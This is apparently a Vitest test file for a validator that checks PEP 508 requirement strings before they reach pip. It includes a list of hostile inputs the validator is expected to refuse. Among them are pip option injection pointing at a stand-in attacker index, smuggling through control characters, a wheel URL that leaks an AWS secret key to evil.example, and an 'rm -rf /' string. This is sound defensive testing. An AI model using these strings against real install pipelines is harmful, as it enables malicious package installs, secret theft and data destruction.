/** PEP 508 requirements Forge passes to pip, and strings pip would read as something else. */
import { describe, expect, it } from 'vitest';
import { requirementProblem } from '../../../stages/python/pep508.ts';

describe('requirementProblem', () => {
  it.each([
    'requests',
    'requests>=2.31',
    'requests[socks, security] >= 2.8.1, == 2.8.*',
    'name (>=1.0,<2)',
    'pywin32 >1.0 ; sys_platform == "win32"',
    "pip @ https://github.com/pypa/pip/archive/1.3.1.zip#sha1=da9234ee9982d4bbb3c72346a6de940a148ea686",
    'name @ file:///wheels/name-1.0-py3-none-any.whl ; python_version >= "3.8"',
    "foo; python_version < '3.12' and (os_name == 'posix' or extra == 'test')",
    'foo ; "linux" in sys_platform',
  ])('accepts %s', (text) => expect(requirementProblem(text)).toBeUndefined());

  it.each([
    ['--index-url=https://evil.example/simple', 'starts with "-"'],
    ['-e git+https://evil.example/x.git#egg=x', 'starts with "-"'],
    ['requests --extra-index-url https://evil.example/simple', 'starts with "-"'],
    ['requests\x1c--index-url=https://evil.example/simple', 'U+001C'],
    ['requests\u2028six', 'U+2028'],
    ['requests\x85six', 'U+0085'],
    ['x @ https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl', '"${"'],
    ['requests \\', 'backslash'],
    ['requests #six', 'comment'],
    ['requests six', 'unexpected'],
    ['requests ; rm -rf /', 'starts with "-"'],
    ['requests ; evil == "x"', 'not an environment marker'],
    ['>=1.0', 'package name'],
  ])('refuses %j', (text, why) => expect(requirementProblem(text)).toContain(why));
});
